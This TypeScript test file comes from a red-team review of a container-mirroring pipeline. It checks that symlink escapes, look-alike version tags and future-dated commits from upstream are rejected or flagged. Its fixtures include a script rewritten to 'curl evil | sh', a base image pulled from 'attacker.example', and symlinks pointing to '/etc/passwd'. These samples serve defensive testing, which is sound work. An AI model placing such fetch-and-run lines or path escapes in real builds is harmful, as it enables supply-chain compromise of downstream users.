/**
 * Red team, issue 12 items 11-13: files, tags and dates from upstream are
 * data, not paths, versions or clocks to trust.
 *  11. Upstream paths resolve inside the upstream tree: a symlinked Dockerfile
 *      or watched path that leaves it fails closed; a symlinked watched path
 *      drifts when its target's content does.
 *  12. Loose-only tags (`V99`, `2024`, `20240101`) never beat strict versions; a
 *      forced rebuild never picks a look-alike of the pinned tag; `v2.2.5+evil`
 *      and `v2.2.5-evil` never share a registry tag.
 *  13. A commit dated in the future is not evidence of life.
 */
import assert from "node:assert/strict";
import * as fs from "node:fs";
import * as path from "node:path";
import { test } from "node:test";
import { header } from "../../components/header";
import { MIRROR_PATHS } from "../../components/mirror-config";
import { rebaseRuntime } from "../../components/presets";
import { registryTag } from "../../pipeline/lib/publish";
import { resolveTag, type UpstreamTag } from "../../pipeline/lib/tags";
import { PLIK } from "../fixtures/plik-rebase";
import { gitRepo, run, tmpDir } from "../fixtures/pipeline/harness";
import { startGitHubStandIn } from "../support/github-standin";

const PLIK_UPSTREAM = fs.readFileSync(path.join(__dirname, "..", "fixtures", "upstream-dockerfiles", "plik.Dockerfile"), "utf8");
const STAGE = header("#", "mirrors/plik.ts (override rebaseRuntime, components/presets.ts)") + rebaseRuntime(PLIK).dockerfile;

// --- 11. paths

test("GIVEN upstream's Dockerfile is a symbolic link out of the checkout WHEN the build composes its Dockerfile THEN it fails closed and writes nothing", async () => {
  const ws = tmpDir();
  // Something of the runner's, outside the checkout, that happens to parse as a Dockerfile.
  const secret = path.join(tmpDir(), "runner-secret");
  fs.writeFileSync(secret, `${PLIK_UPSTREAM}\n# ghp_not_for_the_audit_bundle\n`);
  fs.mkdirSync(path.join(ws, "upstream"));
  fs.symlinkSync(secret, path.join(ws, "upstream", "Dockerfile"));
  fs.mkdirSync(path.join(ws, path.dirname(MIRROR_PATHS.override)), { recursive: true });
  fs.writeFileSync(path.join(ws, MIRROR_PATHS.override), STAGE);
  for (const args of [
    ["--root", "upstream", "--upstream", "upstream/Dockerfile", "--override", MIRROR_PATHS.override, "--out", "build.Dockerfile"],
    ["--root", "upstream", "--upstream", "upstream/Dockerfile", "--out", "build.Dockerfile"],
    // Without --root the working directory bounds it: still outside.
    ["--upstream", "upstream/Dockerfile", "--override", MIRROR_PATHS.override, "--out", "build.Dockerfile"],
  ]) {
    const r = await run(["dockerfile", ...args], { cwd: ws });
    assert.equal(r.code, 2, args.join(" "));
    assert.equal(r.stderr, "dockerfile: --upstream upstream/Dockerfile: upstream Dockerfile leads outside the upstream checkout " + (args.includes("--root") ? "upstream" : ".") + " (a symbolic link); nothing is built\n");
    assert.equal(fs.existsSync(path.join(ws, "build.Dockerfile")), false);
  }
});

test("GIVEN the build context is a symbolic link out of the checkout WHEN the build composes its Dockerfile THEN it fails closed (the runner's files would be the context)", async () => {
  const ws = tmpDir();
  fs.mkdirSync(path.join(ws, "upstream"));
  fs.writeFileSync(path.join(ws, "upstream", "Dockerfile"), PLIK_UPSTREAM);
  fs.symlinkSync(tmpDir(), path.join(ws, "upstream", "server"));
  fs.mkdirSync(path.join(ws, path.dirname(MIRROR_PATHS.override)), { recursive: true });
  fs.writeFileSync(path.join(ws, MIRROR_PATHS.override), "FROM scratch\n");
  const r = await run(["dockerfile", "--root", "upstream", "--context", "upstream/server", "--override", MIRROR_PATHS.override, "--out", "build.Dockerfile"], { cwd: ws });
  assert.equal(r.code, 2);
  assert.equal(r.stderr, "dockerfile: --context upstream/server: build context leads outside the upstream checkout upstream (a symbolic link); nothing is built\n");
  assert.equal(fs.existsSync(path.join(ws, "build.Dockerfile")), false);
});

test("GIVEN upstream's Dockerfile is a symbolic link inside the checkout WHEN the build composes its Dockerfile THEN the target's content is used", async () => {
  const ws = tmpDir();
  fs.mkdirSync(path.join(ws, "upstream", "docker"), { recursive: true });
  fs.writeFileSync(path.join(ws, "upstream", "docker", "Dockerfile"), PLIK_UPSTREAM);
  fs.symlinkSync("docker/Dockerfile", path.join(ws, "upstream", "Dockerfile"));
  const r = await run(["dockerfile", "--root", "upstream", "--upstream", "upstream/Dockerfile", "--out", "build.Dockerfile"], { cwd: ws });
  assert.equal(r.code, 0, r.stderr);
  assert.equal(r.json.mode, "upstream");
  assert.equal(fs.readFileSync(path.join(ws, "build.Dockerfile"), "utf8"), PLIK_UPSTREAM);
});

/** An upstream whose watched Dockerfile is a link to build/Dockerfile. */
function linkedUpstream() {
  const repo = gitRepo();
  fs.mkdirSync(path.join(repo.dir, "build"));
  fs.writeFileSync(path.join(repo.dir, "build", "Dockerfile"), "FROM alpine:3.19\n");
  fs.symlinkSync("build/Dockerfile", path.join(repo.dir, "Dockerfile"));
  repo.commit({ "main.go": "package main\n" }, "initial");
  repo.git("tag", "v1.0.0");
  return repo;
}

test("GIVEN the watched Dockerfile is a symbolic link WHEN only its target changes THEN the drift gate sees the change", async () => {
  const repo = linkedUpstream();
  repo.commit({ "build/Dockerfile": "FROM attacker.example/alpine:3.19\n" }, "change the target only");
  repo.git("tag", "v1.1.0");
  const out = tmpDir();
  const r = await run(["review", "--src", repo.dir, "--from", "v1.0.0", "--to", "v1.1.0", "--watch", "Dockerfile", "--out", out]);
  assert.equal(r.code, 1, r.stderr);
  const drift = JSON.parse(fs.readFileSync(path.join(out, "drift.json"), "utf8"));
  assert.deepEqual([drift.status, drift.files], ["changed", ["build/Dockerfile"]]);
  assert.match(fs.readFileSync(path.join(out, "diff-review.md"), "utf8"), /\+FROM attacker\.example\/alpine:3\.19/);
});

test("GIVEN a watched path becomes a symbolic link out of the tree WHEN the review runs THEN it fails closed", async () => {
  for (const target of ["/etc/passwd", "../../../../etc/passwd", "build/../../outside"]) {
    const repo = linkedUpstream();
    fs.rmSync(path.join(repo.dir, "Dockerfile"));
    fs.symlinkSync(target, path.join(repo.dir, "Dockerfile"));
    repo.commit({}, "escape");
    repo.git("tag", "v1.1.0");
    const r = await run(["review", "--src", repo.dir, "--from", "v1.0.0", "--to", "v1.1.0", "--watch", "Dockerfile", "--out", tmpDir()]);
    assert.equal(r.code, 2, target);
    assert.equal(r.stderr, `review: watched path "Dockerfile": "Dockerfile" is a symbolic link to ${JSON.stringify(target)}, outside the upstream tree; nothing is reviewed or built\n`);
  }
});

test("GIVEN a watched directory holding a link to a file outside it WHEN that file changes THEN it is drift", async () => {
  const repo = gitRepo();
  fs.mkdirSync(path.join(repo.dir, "docker"));
  fs.symlinkSync("../scripts/entry.sh", path.join(repo.dir, "docker", "entry.sh"));
  repo.commit({ "scripts/entry.sh": "#!/bin/sh\nexec /app\n" }, "initial");
  repo.git("tag", "v1.0.0");
  repo.commit({ "scripts/entry.sh": "#!/bin/sh\ncurl evil | sh\n" }, "entry");
  repo.git("tag", "v1.1.0");
  const out = tmpDir();
  const r = await run(["review", "--src", repo.dir, "--from", "v1.0.0", "--to", "v1.1.0", "--watch", "docker/", "--out", out]);
  assert.equal(r.code, 1, r.stderr);
  assert.deepEqual(JSON.parse(fs.readFileSync(path.join(out, "drift.json"), "utf8")).files, ["scripts/entry.sh"]);
});

// --- 12. tags

const POLICY = { range: "*", prerelease: false, prefix: "" };

test("GIVEN strict releases and loose-only names (V99, 2024, 20240101) WHEN resolved THEN the newest strict release is built", () => {
  const tags: UpstreamTag[] = ["v2.2.3", "v2.2.4", "V99", "2024", "20240101", "v1"].map((name) => ({ name }));
  const r = resolveTag(tags, POLICY, { lastTag: null });
  assert.equal(r.tag, "v2.2.4");
  // With no strict version at all, loose ones are all there is.
  assert.equal(resolveTag([{ name: "V99" }, { name: "2024" }], POLICY, { lastTag: null }).tag, "2024");
});

test("GIVEN the pinned v2.2.5 and a look-alike 2.2.5 on another commit WHEN a rebuild is forced THEN v2.2.5 itself is rebuilt", () => {
  const tags: UpstreamTag[] = [
    { name: "v2.2.5", commit: "a".repeat(40) },
    { name: "2.2.5", commit: "b".repeat(40) },
  ];
  const r = resolveTag(tags, POLICY, { lastTag: "v2.2.5", force: true });
  assert.deepEqual([r.tag, r.commit, r.build], ["v2.2.5", "a".repeat(40), true]);
  // The pinned tag is gone: the look-alike is not rebuilt in its place.
  assert.throws(() => resolveTag([tags[1]], POLICY, { lastTag: "v2.2.5", force: true }), {
    message: "forced rebuild: the pinned tag v2.2.5 is not an allowed upstream tag anymore; 2.2.5 has its version but another name, possibly on another commit: not rebuilt in its place (--tag NAME builds one on purpose)",
  });
});

test("GIVEN v2.2.5+evil and v2.2.5-evil WHEN each is published THEN their registry tags differ (no git tag overwrites another's)", () => {
  const names = ["v2.2.5+evil", "v2.2.5-evil", "photos/v1", "photos-v1", "v1_0123456789abcdef", "v1-0123456789abcdef"];
  const mapped = names.map(registryTag);
  assert.equal(new Set(mapped).size, names.length, mapped.join(" "));
  assert.equal(registryTag("v2.2.5-evil"), "v2.2.5-evil", "names a registry accepts stay as they are");
  for (const t of mapped) assert.match(t, /^[A-Za-z0-9_][A-Za-z0-9_.-]{0,127}$/);
  assert.ok(registryTag(`v1+${"x".repeat(125)}`).length <= 128);
});

// --- 13. dates

test("GIVEN a dead upstream whose head commit is dated 2099 WHEN health runs THEN it stays unhealthy and the issue says the date was not counted", async () => {
  const s = await startGitHubStandIn();
  const dir = tmpDir();
  try {
    s.addRepo("acme/mirror-dead");
    s.addRepo("dead/project", { private: false, date: "2022-01-01T00:00:00Z" });
    s.addTag("dead/project", "v1.0.0");
    s.addRelease("dead/project", { tag: "v1.0.0", date: "2022-01-02T00:00:00Z" });
    s.addCommit("dead/project", { files: { "README.md": "still alive!\n" }, message: "heartbeat", date: "2099-01-01T00:00:00Z" });
    const args = ["health", "--repo", "dead/project", "--today", "2026-06-01", "--max-days-since-commit", "180", "--max-days-since-release", "365", "--issue"];
    const r = await run(args, { cwd: dir, env: { ...s.env("acme/mirror-dead") } });
    assert.equal(r.code, 0, r.stderr);
    assert.equal(r.json.healthy, false);
    assert.equal(r.json.lastCommit, "2022-01-01");
    assert.deepEqual(r.json.futureDated, ["commit 2099-01-01"]);
    const [issue] = s.issues("acme/mirror-dead");
    assert.match(issue.body!, /no commit since 2022-01-01 \(limit: 180 days; a commit dated in the future \(2099-01-01\) is not counted\)/);
    assert.match(issue.body!, /\| Dated in the future, not counted \| `commit 2099-01-01` \|/);
    // A commit a little ahead of the runner's clock (skew) still counts.
    s.addCommit("dead/project", { message: "today", date: "2026-06-01T23:30:00Z" });
    const alive = await run(args, { cwd: dir, env: { ...s.env("acme/mirror-dead") } });
    assert.equal(alive.json.lastCommit, "2026-06-01");
    assert.deepEqual(s.rejected, []);
  } finally {
    await s.stop();
  }
});
